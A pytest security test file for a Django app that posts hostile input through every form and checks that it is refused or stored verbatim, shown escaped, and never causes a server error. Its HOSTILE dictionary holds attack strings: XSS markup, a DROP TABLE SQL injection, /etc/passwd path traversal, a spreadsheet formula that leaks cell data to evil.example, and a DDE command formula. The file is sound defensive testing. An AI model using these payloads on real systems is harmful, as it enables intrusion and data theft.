"""Hostile input through every form of the app (issue 5; SECURITY.md 22 and 24).

The forms are found, not listed: every page of the isolation matrix is opened as its
owner, and every POST form on it is filled in (form_filler.py) with one kind of hostile
text in every free-text field, a valid answer in the others, and a hostile file in every
file input. Each submission runs in a savepoint that is rolled back, so one world serves
every form. For each submission:

- nothing answers 500 (the test client raises the view's exception);
- a form shown again (200) carries the GOV.UK error summary when the text was refused;
- the page shown afterwards (the form again, or where it redirects) never contains the
  text as markup: `<script>` arrives escaped, as text;
- a saved form stores the text as typed: at least MIN_STORED forms leave a text column
  holding it verbatim (not escaped, not cut).

With `tamper_hidden`, the hidden fields (versions, ids) carry the text too, as a forged
request would. The exports and PDFs get their own tests in test_hostile_output.py.
"""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.utils.html import escape

from tests.isolation.test_matrix import MODULES, ROWS
from tests.isolation.world import build_world
from tests.security.form_filler import Field, Form, file_fields, fill, forms_on

HOSTILE = {
    "script": '<script>alert("spr")</script><img src=x onerror=alert(1)>',
    "sql": "Robert'); DROP TABLE recording_sessionrecord; -- \" OR 1=1 --",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "formula_plus": "+cmd|' /C calc'!A0 -2+3 @SUM(A1:A9)",
    "control": "Report\u202egnp.exe \u200b\u200f\x1b[31m\x07\x08\r tail",
    "nul": "before\x00after",
    "long": "L" * 20_000,
}
# Markup that must never reach a page unescaped.
RAW_MARKERS = ('<script>alert("spr")', "<img src=x onerror")
# Pages that are files, not forms.
FILE_SUFFIXES = (".csv", ".ics", "/pdf/", "/download/", "/document/", "/evidence/")
# At least this many distinct forms must be found: a drop means the finder broke.
MIN_FORMS = 50
MIN_STORED = 15


@pytest.fixture
def world(db):
    world = build_world()
    for module in MODULES:
        if hasattr(module, "extend_world"):
            module.extend_world(world)
    return world


def hostile_file(field_name: str, action: str, text: str) -> SimpleUploadedFile:
    """A file whose name climbs out of the folder and carries the hostile text; a CSV
    (with the text in a cell) where the form imports cases, a PDF elsewhere."""
    stem = "../../" + text[:80].replace("/", "_")
    if "import" in action:
        body = (
            "case_reference,initials,year_of_birth,category\n"
            f'"{text[:200]}",AB,2015,cin\n'
            f"REF-OK,AB,2015,{text[:40]}\n"
        )
        return SimpleUploadedFile(f"{stem}.csv", body.encode("utf-8"), content_type="text/csv")
    return SimpleUploadedFile(
        f"{stem}.pdf",
        b"%PDF-1.4\n%" + text[:200].encode("utf-8") + b"\n%%EOF\n",
        content_type="application/pdf",
    )


# What a forged POST to any page sends: the names of the hidden fields and buttons the
# app's forms use (versions, timer actions, the sign-off choice, ...).
BLIND_FIELDS = ("version", "action", "go", "agree", "withhold", "membership", "part")


def blind_form(url: str) -> Form:
    return Form(action=url, multipart=False, fields=[Field(n, "hidden") for n in BLIND_FIELDS])


def page_forms(client, world, *, blind: bool = False):
    """(row, owner, action, form) for every POST form on every owner's page; with
    `blind`, also a forged POST of hidden fields to every page, forms or not."""
    seen = set()
    for row in ROWS:
        url = row.url(world)
        if any(s in url for s in FILE_SUFFIXES):
            continue
        if blind and row.owner_status in (200, 405) and ("blind", url) not in seen:
            seen.add(("blind", url))
            yield row, world.people[row.owner], url, blind_form(url)
        if row.owner_status != 200:
            continue
        owner = world.people[row.owner]
        client.force_login(owner)
        response = client.get(url)
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        for form in forms_on(response.content.decode()):
            action = form.action or url
            names = tuple(sorted(f.name for f in form.fields))
            if (row.owner, action, names) in seen:
                continue
            seen.add((row.owner, action, names))
            yield row, owner, action, form
            if action.endswith("/edit/") and "/records/" in action:
                # The draft page's script posts the same fields to the autosave endpoint.
                yield row, owner, action.replace("/edit/", "/autosave/"), form


def _text_columns():
    """(model, [text field names]) for every model of the project's apps."""
    from django.apps import apps
    from django.db import models

    ours = {"agencies", "contracts", "supervision", "recording", "evaluation", "reflection"}
    found = []
    for model in apps.get_models():
        if model._meta.app_label not in ours:
            continue
        names = [
            f.name
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices
        ]
        if names:
            found.append((model, names))
    return found


def stored_verbatim(text: str) -> bool:
    """Whether some text column now holds exactly `text` (not escaped, not cut)."""
    from django.db.models import Q

    for model, names in _text_columns():
        query = Q()
        for name in names:
            query |= Q(**{name: text})
        if model._base_manager.filter(query).exists():
            return True
    return False


def check_page(body: str, where: str, problems: list[str]) -> None:
    for marker in RAW_MARKERS:
        if marker in body:
            problems.append(f"{where}: the text reached the page as markup ({marker!r})")


def submit(client, owner, action, form, text, *, tamper_hidden: bool, outcome) -> list[str]:
    problems: list[str] = []
    data = fill(form, text, tamper_hidden=tamper_hidden)
    for name in file_fields(form):
        data[name] = hostile_file(name, action, text)
    client.force_login(owner)
    response = client.post(action, data)
    where = f"POST {action}"
    if response.status_code >= 500:
        problems.append(f"{where}: answered {response.status_code}")
        return problems
    body = response.content.decode(errors="replace")
    if "text/html" in response.get("Content-Type", ""):
        check_page(body, where, problems)
    if response.status_code == 302:
        outcome["saved"] += 1
        if "\x00" not in text and stored_verbatim(text.strip()):
            outcome["stored"] += 1
        location = response["Location"]
        if location.startswith("/") and not location.startswith("/sign-in/"):
            after = client.get(location)
            if after.status_code >= 500:
                problems.append(f"{where} → GET {location}: answered {after.status_code}")
            elif "text/html" in after.get("Content-Type", ""):
                check_page(
                    after.content.decode(errors="replace"), f"{where} → {location}", problems
                )
    elif (
        response.status_code == 200
        and text == HOSTILE["nul"]
        and not tamper_hidden
        and "<form" in body
        and "govuk-error-summary" not in body
    ):
        problems.append(f"{where}: NUL shown again without an error summary")
    return problems


def run_every_form(client, world, text: str, *, tamper_hidden: bool):
    problems: list[str] = []
    count = 0
    outcome = {"saved": 0, "stored": 0}
    for row, owner, action, form in list(page_forms(client, world, blind=tamper_hidden)):
        count += 1
        savepoint = transaction.savepoint()
        try:
            problems += submit(
                client, owner, action, form, text, tamper_hidden=tamper_hidden, outcome=outcome
            )
        except Exception as exc:  # noqa: BLE001 - every failure is reported, not the first
            problems.append(f"POST {action} ({row.name}): raised {type(exc).__name__}: {exc}"[:400])
        finally:
            transaction.savepoint_rollback(savepoint)
    return count, problems, outcome


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_every_form_stores_or_refuses_hostile_text_and_shows_it_escaped(client, world, kind):
    count, problems, outcome = run_every_form(client, world, HOSTILE[kind], tamper_hidden=False)
    assert count >= MIN_FORMS, f"only {count} forms found"
    assert not problems, "\n".join(problems)
    # Stored as typed, not escaped or cut, by the forms that keep free text (a drop means
    # forms stopped saving, or started mangling what they save).
    if kind not in ("nul", "long"):
        assert outcome["stored"] >= MIN_STORED, outcome


@pytest.mark.parametrize("kind", ["script", "nul", "long", "sql"])
def test_forged_hidden_fields_are_refused_not_a_server_error(client, world, kind):
    count, problems, _outcome = run_every_form(client, world, HOSTILE[kind], tamper_hidden=True)
    assert count >= MIN_FORMS
    assert not problems, "\n".join(problems)


def test_the_escaped_text_is_what_a_person_sees(client, world):
    """One form end to end: the reflective log keeps the text exactly and shows it as
    text (the generic run above only checks that no markup gets through)."""
    from reflection.models import LearningLogEntry

    author = world.people["A.practitioner"]
    client.force_login(author)
    page = client.get("/reflection/log/new/")
    form = next(f for f in forms_on(page.content.decode()) if not f.action or "log" in f.action)
    data = fill(form, HOSTILE["script"])
    response = client.post(form.action or "/reflection/log/new/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    entry = LearningLogEntry.objects.filter(author=author).latest("created_at")
    assert entry.title == HOSTILE["script"][:200]
    shown = client.get(response["Location"]).content.decode()
    assert escape(HOSTILE["script"]) in shown
    assert HOSTILE["script"] not in shown
